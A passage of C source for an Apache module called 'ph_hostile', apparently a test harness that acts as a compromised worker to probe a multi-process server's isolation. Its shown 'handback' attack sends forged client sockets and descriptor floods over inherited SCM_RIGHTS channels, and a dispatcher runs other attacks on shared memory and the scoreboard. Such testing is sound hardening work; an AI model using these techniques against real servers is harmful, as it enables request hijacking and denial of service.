            err_name(kill(pid, 0) == 0 ? 0 : errno));
    }
    closedir(d);
}

/* ---- the handler ----------------------------------------------------- */

/* Send byte (len 1) or nothing (len 0) with the descriptors fds[0..n) on
 * fd; 1 if it went. */
static int send_with_fds(int fd, char byte, size_t len, const int *fds, int n)
{
    struct iovec iov = { &byte, len };
    struct msghdr mh;
    union {
        struct cmsghdr align;
        char buf[CMSG_SPACE(sizeof(int) * 4)];
    } ctl;
    struct cmsghdr *c;

    memset(&mh, 0, sizeof(mh));
    memset(&ctl, 0, sizeof(ctl));
    mh.msg_iov = &iov;
    mh.msg_iovlen = 1;
    mh.msg_control = ctl.buf;
    mh.msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)n);
    c = CMSG_FIRSTHDR(&mh);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)n);
    memcpy(CMSG_DATA(c), fds, sizeof(int) * (size_t)n);
    return sendmsg(fd, &mh, MSG_DONTWAIT | MSG_NOSIGNAL) == (ssize_t)len;
}

/* A TCP connection to 127.0.0.1:port with a request for host written on
 * it; its client end. */
static int forged_client(int port, const char *host)
{
    struct sockaddr_in a;
    char req[256];
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    ssize_t ignored;

    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)port);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
        if (fd >= 0) {
            close(fd);
        }
        return -1;
    }
    snprintf(req, sizeof(req), "GET /cgi-bin/id.cgi?forged HTTP/1.1\r\n"
             "Host: %s\r\n\r\n", host);
    ignored = write(fd, req, strlen(req));
    (void)ignored;
    return fd;
}

/* Messages of no byte, each with a descriptor, per doorbell. */
#define HANDBACK_EMPTY 40

static void attack_handback(report *rep, int port, const char *host)
{
    DIR *d = opendir("/proc/self/fd");
    struct dirent *de;
    int bells = 0, sent = 0, readable = 0, empty = 0;

    if (!d) {
        say(rep, "handback.error=%s", err_name(errno));
        return;
    }
    while ((de = readdir(d))) {
        int fd = atoi(de->d_name), type = 0, kinds[3], sv[2], k;
        socklen_t len = sizeof(type);

        if (de->d_name[0] == '.' || fd == dirfd(d)
            || getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) != 0
            || type != SOCK_SEQPACKET) {
            continue;
        }
        bells++;
        {
            char byte;

            /* 0: end-of-file, nothing this process can take from it */
            readable += recv(fd, &byte, 1, MSG_DONTWAIT | MSG_PEEK) != 0;
        }
        kinds[0] = forged_client(port, host);
        kinds[1] = socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0 ? sv[0] : -1;
        kinds[2] = socket(AF_INET, SOCK_DGRAM, 0);
        for (k = 0; k < 3; k++) {
            if (kinds[k] >= 0) {
                sent += send_with_fds(fd, 'H', 1, &kinds[k], 1);
            }
        }
        if (kinds[0] >= 0 && kinds[2] >= 0) {
            int two[2] = { kinds[0], kinds[2] };
            sent += send_with_fds(fd, 'H', 1, two, 2);
        }
        for (k = 0; k < 3; k++) {
            if (kinds[k] >= 0) {
                close(kinds[k]);
            }
        }
        if (kinds[1] >= 0) {
            close(sv[1]);
        }
        /* messages of no byte, each with a socket: whoever reads them
         * must close what they carry, or run out of descriptors */
        for (k = 0; k < HANDBACK_EMPTY; k++) {
            int u = socket(AF_INET, SOCK_DGRAM, 0);

            if (u >= 0) {
                empty += send_with_fds(fd, 0, 0, &u, 1);
                close(u);
            }
        }
    }
    closedir(d);
    say(rep, "handback.sockets=%d", bells);
    say(rep, "handback.sent=%d", sent);
    say(rep, "handback.readable=%d", readable);
    say(rep, "handback.empty_sent=%d", empty);
}

static const char *arg(request_rec *r, const char *name, const char *dflt)
{
    char *args = r->args ? apr_pstrdup(r->pool, r->args) : NULL;
    char *tok, *last = NULL;
    size_t n = strlen(name);

    for (tok = args ? apr_strtok(args, "&", &last) : NULL; tok;
         tok = apr_strtok(NULL, "&", &last)) {
        if (strncmp(tok, name, n) == 0 && tok[n] == '=') {
            return tok + n + 1;
        }
    }
    return dflt;
}

static int hostile_handler(request_rec *r)
{
    hostile_conf *conf;
    report rep;
    const char *mode, *scope, *own, *prefix;
    int random, i;
    fault_guard guard;

    if (!r->handler || strcmp(r->handler, "ph-hostile") != 0) {
        return DECLINED;
    }
    conf = ap_get_module_config(r->server->module_config, &ph_hostile_module);
    rep.r = r;
    rep.lines = apr_array_make(r->pool, 64, sizeof(const char *));
    mode = arg(r, "mode", "");
    scope = arg(r, "scope", "all");
    own = arg(r, "own", NULL);
    random = strcmp(arg(r, "fill", "pattern"), "random") == 0;
    prefix = conf->segment_prefix;
    rng_state = ((uint64_t)apr_time_now() << 16) ^ (uint64_t)getpid() ^ 1;

    say(&rep, "pid=%ld", (long)getpid());
    say(&rep, "uid=%ld", (long)geteuid());
    say(&rep, "mode=%s", mode);
    if (random) {
        say(&rep, "seed=%" APR_UINT64_T_FMT, rng_state);
    }
    guard_begin(&guard);
    if ((strcmp(mode, "segment") == 0 || strcmp(mode, "layout") == 0
         || strcmp(mode, "aim") == 0) && !prefix) {
        say(&rep, "error=PhHostileSegmentPrefix is not set");
    }
    else if (strcmp(mode, "segment") == 0) {
        attack_segment(&rep, prefix, scope, own, random);
    }
    else if (strcmp(mode, "layout") == 0 || strcmp(mode, "aim") == 0) {
        attack_layout_mode(&rep, prefix, own, mode);
    }
    else if (strcmp(mode, "whereis") == 0) {
        report_whereis(&rep);
    }
    else if (strcmp(mode, "scoreboard") == 0) {
        attack_scoreboard(&rep);
    }
    else if (strcmp(mode, "fds") == 0) {
        report_fds(&rep);
    }
    else if (strcmp(mode, "signals") == 0) {
        report_signals(&rep);
    }
    else if (strcmp(mode, "handself") == 0) {
        attack_handself(&rep);
    }
    else if (strcmp(mode, "handback") == 0) {
        attack_handback(&rep, atoi(arg(r, "port", "0")),
                        arg(r, "host", "bob.test"));
    }
    else {
        say(&rep, "error=unknown mode");
    }
    guard_end(&guard);
    say(&rep, "done=1");

    ap_set_content_type(r, "text/plain");
    for (i = 0; i < rep.lines->nelts; i++) {
        ap_rputs(APR_ARRAY_IDX(rep.lines, i, const char *), r);
        ap_rputs("\n", r);
    }
    return OK;
}

/* ---- configuration --------------------------------------------------- */

static void *create_server_conf(apr_pool_t *p, server_rec *s)
{
    (void)s;
    return apr_pcalloc(p, sizeof(hostile_conf));
}

static void *merge_server_conf(apr_pool_t *p, void *basev, void *addv)
{
    hostile_conf *base = basev, *add = addv, *out = apr_pcalloc(p, sizeof(*out));
    out->segment_prefix = add->segment_prefix ? add->segment_prefix
                                              : base->segment_prefix;
    return out;
}

static const char *set_prefix(cmd_parms *cmd, void *dummy, const char *arg1)
{
    hostile_conf *conf = ap_get_module_config(cmd->server->module_config,
                                              &ph_hostile_module);
    (void)dummy;
    conf->segment_prefix = arg1;
    return NULL;
}

static const command_rec hostile_cmds[] = {
    AP_INIT_TAKE1("PhHostileSegmentPrefix", set_prefix, NULL, RSRC_CONF,
                  "path prefix of the MPM's shared-memory file(s)"),
    { NULL }
};

static void register_hooks(apr_pool_t *p)
{
    (void)p;
    ap_hook_handler(hostile_handler, NULL, NULL, APR_HOOK_FIRST);
}

AP_DECLARE_MODULE(ph_hostile) = {
    STANDARD20_MODULE_STUFF,
    NULL,
    NULL,
    create_server_conf,
    merge_server_conf,
    hostile_cmds,
    register_hooks,
    AP_MODULE_FLAG_NONE
};
